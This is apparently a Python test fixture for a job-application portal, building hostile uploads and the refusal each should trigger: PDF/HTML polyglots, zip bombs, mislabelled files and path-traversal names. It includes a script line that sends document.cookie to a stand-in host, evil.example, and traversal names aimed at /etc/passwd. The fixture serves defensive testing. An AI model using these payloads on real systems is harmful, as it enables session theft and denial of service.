"""A corpus of hostile uploads, made in code: what an attacker (or an unlucky browser) sends.

Each file says what it is meant to provoke and the words of the refusal the uploader must read.
The upload tests run every file through every place the portal takes a file.
"""

from __future__ import annotations

import io
import struct
import zipfile
from dataclasses import dataclass
from functools import cache

from tests.applicants import files

SCRIPT = b"<html><body><script>fetch('https://evil.example/?c=' + document.cookie)</script></body></html>"


@dataclass(frozen=True)
class Hostile:
    label: str
    name: str
    content_type: str
    make: object  # () -> bytes, so big files are only built by the tests that send them
    reason: str  # words of the refusal the uploader reads (documents and letters)

    @property
    def content(self) -> bytes:
        return self.make()


def pdf_padded(size: int) -> bytes:
    body = files.PDF
    return body + b"%" + b"0" * (size - len(body) - 1)


def polyglot_late() -> bytes:
    """A PDF with an HTML page after the first kilobyte, where a look at the start would miss it."""
    return files.PDF + b"%" + b"0" * 4096 + b"\n" + SCRIPT + b"\n%%EOF\n"


def polyglot_early() -> bytes:
    return b"%PDF-1.7\n" + SCRIPT + b"\n" + files.PDF[9:]


def _docx_with(document_xml_size: int, *, entries: int = 0) -> bytes:
    """A real Word skeleton whose document.xml unpacks to `document_xml_size` bytes, streamed so the
    test never holds the unpacked size in memory."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            block = b" " * (1024 * 1024)
            left = document_xml_size
            while left > 0:
                member.write(block[: min(left, len(block))])
                left -= len(block)
        for n in range(entries):
            archive.writestr(f"word/media/part{n}.xml", "")
    return buffer.getvalue()


@cache
def zip_bomb() -> bytes:
    """A .docx of about 200 KB that unpacks to 200 MB."""
    return _docx_with(200 * 1024 * 1024)


@cache
def zip_ratio_bomb() -> bytes:
    """Small in both forms (20 MB unpacked), but 1,000 times smaller packed than unpacked."""
    return _docx_with(20 * 1024 * 1024)


@cache
def zip_entry_bomb() -> bytes:
    """Thousands of empty entries: cheap to send, costly to list and unpack."""
    return _docx_with(10, entries=5000)


@cache
def zip_lying_directory() -> bytes:
    """The directory says document.xml unpacks to 100 bytes; its data unpacks to 50 MB."""
    honest = _docx_with(50 * 1024 * 1024)
    data = bytearray(honest)
    # Patch the uncompressed size in the central directory entry and the local header of document.xml.
    name = b"word/document.xml"
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + name_len] == name:
            _patch_zip64_size(data, central, name_len)
            break
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def _patch_zip64_size(data: bytearray, central: int, name_len: int) -> None:
    extra_len = struct.unpack_from("<H", data, central + 30)[0]
    extra = central + 46 + name_len
    end = extra + extra_len
    while extra < end:
        tag, size = struct.unpack_from("<HH", data, extra)
        if tag == 0x0001:  # zip64: uncompressed size first
            struct.pack_into("<Q", data, extra + 4, 100)
            return
        extra += 4 + size
    struct.pack_into("<I", data, central + 24, 100)


PDF_TYPE, PNG_TYPE, DOCX_TYPE = (
    "application/pdf",
    "image/png",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
)
BOMB = "looks like a zip bomb"

REFUSED = [
    Hostile(
        "polyglot PDF/HTML, page after the first kilobyte",
        "cv.pdf",
        PDF_TYPE,
        polyglot_late,
        "also contains web page code (HTML)",
    ),
    Hostile(
        "polyglot PDF/HTML, page at the start", "cv.pdf", PDF_TYPE, polyglot_early, "This PDF contains web page code"
    ),
    Hostile(
        "SVG with a script", "photo.svg", "image/svg+xml", lambda: files.SVG, "This file is a web page or an SVG image"
    ),
    Hostile(
        "SVG with a script named .png",
        "photo.png",
        PNG_TYPE,
        lambda: files.SVG,
        "This file is a web page or an SVG image",
    ),
    Hostile(
        "HTML page named .pdf",
        "transcript.pdf",
        PDF_TYPE,
        lambda: files.HTML,
        "This file is a web page or an SVG image",
    ),
    Hostile("zip bomb: 200 MB unpacked", "statement.docx", DOCX_TYPE, zip_bomb, BOMB),
    Hostile("zip bomb: 1000:1", "statement.docx", DOCX_TYPE, zip_ratio_bomb, BOMB),
    Hostile("zip bomb: 5,000 entries", "statement.docx", DOCX_TYPE, zip_entry_bomb, BOMB),
    Hostile(
        "zip whose directory lies about the size",
        "statement.docx",
        DOCX_TYPE,
        zip_lying_directory,
        "This Word file is damaged",
    ),
    Hostile("PNG named .pdf", "scan.pdf", PDF_TYPE, lambda: files.PNG, "name ends in .pdf, but the file is a PNG"),
    Hostile(
        "PDF named .exe",
        "cv.exe",
        "application/x-msdownload",
        lambda: files.PDF,
        "name ends in .exe, but the file is a PDF",
    ),
    Hostile("program named .pdf", "cv.pdf", PDF_TYPE, lambda: files.EXE, "This file is a program"),
    Hostile("zero bytes", "cv.pdf", PDF_TYPE, lambda: b"", "empty"),
]

# 10x the limit: built by the test from the limit it sets.
OVERSIZED_FACTOR = 10

# Valid content, hostile names: accepted, stored under a random name in the upload folder.
TRAVERSAL_NAMES = [
    "../../etc/passwd.pdf",
    "/etc/passwd.pdf",
    "..\\..\\Windows\\System32\\drivers\\etc\\hosts.pdf",
    "evil\x00.pdf",
    "a" * 300 + ".pdf",
]
